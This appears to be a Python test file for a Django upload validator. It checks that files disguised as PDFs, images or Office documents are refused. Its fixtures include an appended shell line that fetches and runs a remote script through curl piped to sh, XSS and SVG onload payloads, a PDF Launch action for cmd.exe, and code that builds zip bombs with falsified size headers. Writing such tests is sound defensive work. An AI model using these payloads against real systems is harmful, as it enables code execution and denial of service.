"""Uploads that pass the type check on their first bytes but are something else further in are refused."""

import io
import struct
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from core.uploads import validate_upload

PE = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 64
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 64


def _zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as entry:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(300):  # 300 MB of zeros, a few hundred kB packed
                entry.write(chunk)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("verslag.pdf", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n" + PE),
        ("verslag.pdf", b"%PDF-1.4\n" + ELF),
        ("foto.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 20 + b"<html><script>alert(1)</script></html>"),
        ("foto.jpg", b"\xff\xd8\xff\xe0" + b"\x00" * 20 + b"<!DOCTYPE html><body onload=x>"),
        ("foto.gif", b"GIF89a" + b"\x00" * 10 + b"<svg onload=alert(1)>"),
    ],
)
def test_a_document_or_image_hiding_a_program_or_a_web_page_is_refused(name, content):
    with pytest.raises(ValidationError) as error:
        validate_upload(SimpleUploadedFile(name, content))
    assert error.value.code == "disguised"


def test_an_office_file_that_inflates_to_hundreds_of_megabytes_is_refused():
    bomb = _zip_bomb()
    assert len(bomb) < 2 * 1024 * 1024
    with pytest.raises(ValidationError) as error:
        validate_upload(SimpleUploadedFile("begroting.docx", bomb))
    assert error.value.code == "disguised"


def test_ordinary_files_still_pass():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document>" + "tekst " * 2000 + "</w:document>")
    validate_upload(SimpleUploadedFile("brief.docx", buffer.getvalue()))
    validate_upload(SimpleUploadedFile("verslag.pdf", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"))
    validate_upload(SimpleUploadedFile("foto.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64))


# The disguised uploads of issue #34, each refused by its content.
PE_WITHOUT_STUB = b"MZ" + b"\x00" * 58 + struct.pack("<I", 0x40) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200
SHELL = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n"
PDF_OPEN_ACTION = (
    b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"
    b"3 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert\\('x'\\)) >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
PDF_LAUNCH_ESCAPED = b"%PDF-1.7\n1 0 obj\n<< /Type /Action /S /L#61unch /F (cmd.exe) >>\nendobj\n%%EOF\n"


def _lying_zip(real: int = 200 * 1024 * 1024, declared: int = 1024) -> bytes:
    """An Office zip whose headers declare ``declared`` bytes for an entry that really unpacks to ``real``."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as entry:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(real // len(chunk)):
                entry.write(chunk)
    data = bytearray(buffer.getvalue())
    # Rewrite the uncompressed size in the local header and the central directory of that entry.
    name = b"xl/worksheets/sheet1.xml"
    local = data.rfind(b"PK\x03\x04", 0, data.index(name))
    struct.pack_into("<I", data, local + 22, declared)
    central = data.rfind(b"PK\x01\x02", 0, data.rindex(name))
    struct.pack_into("<I", data, central + 24, declared)
    return bytes(data)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param(
            "verslag.pdf", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n" + PE_WITHOUT_STUB, id="pdf-then-program-no-stub"
        ),
        pytest.param("verslag.pdf", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + SHELL, id="pdf-then-shell-script"),
        pytest.param("verslag.pdf", PDF_OPEN_ACTION, id="pdf-openaction-javascript"),
        pytest.param("verslag.pdf", PDF_LAUNCH_ESCAPED, id="pdf-launch-escaped-name"),
        pytest.param("macro.doc", None, id="legacy-doc-with-macros"),
        pytest.param("macro.xls", None, id="legacy-xls-with-macros"),
        pytest.param("foto.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 20 + PE_WITHOUT_STUB, id="png-then-program"),
        pytest.param("brief.docx", b"MZ" + b"\x00" * 300, id="program-named-docx"),
    ],
)
def test_each_disguised_upload_of_the_issue_is_refused(name, content):
    from core.tests.ole import ole_document

    if content is None:
        content = ole_document("Macros", "WordDocument") if name.endswith(".doc") else ole_document("_VBA_PROJECT_CUR")
    with pytest.raises(ValidationError) as error:
        validate_upload(SimpleUploadedFile(name, content))
    assert error.value.code in ("disguised", "bad_type")


def test_a_zip_whose_headers_declare_1_kb_for_200_mb_is_judged_by_what_it_unpacks_to():
    lying = _lying_zip()
    assert len(lying) < 1024 * 1024
    with zipfile.ZipFile(io.BytesIO(lying)) as archive:
        assert sum(entry.file_size for entry in archive.infolist()) < 2048  # what the headers claim
    with pytest.raises(ValidationError) as error:
        validate_upload(SimpleUploadedFile("begroting.xlsx", lying))
    assert error.value.code == "disguised"


def test_an_archive_with_too_many_entries_is_refused(settings):
    settings.UPLOAD_MAX_ARCHIVE_ENTRIES = 50
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for n in range(60):
            archive.writestr(f"word/part{n}.xml", "<x/>")
    with pytest.raises(ValidationError):
        validate_upload(SimpleUploadedFile("brief.docx", buffer.getvalue()))


def test_a_legacy_document_without_macros_and_a_plain_pdf_pass():
    from core.tests.ole import ole_document

    validate_upload(SimpleUploadedFile("oud.doc", ole_document("WordDocument", "ObjectPool")))
    validate_upload(SimpleUploadedFile("verslag.pdf", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"))
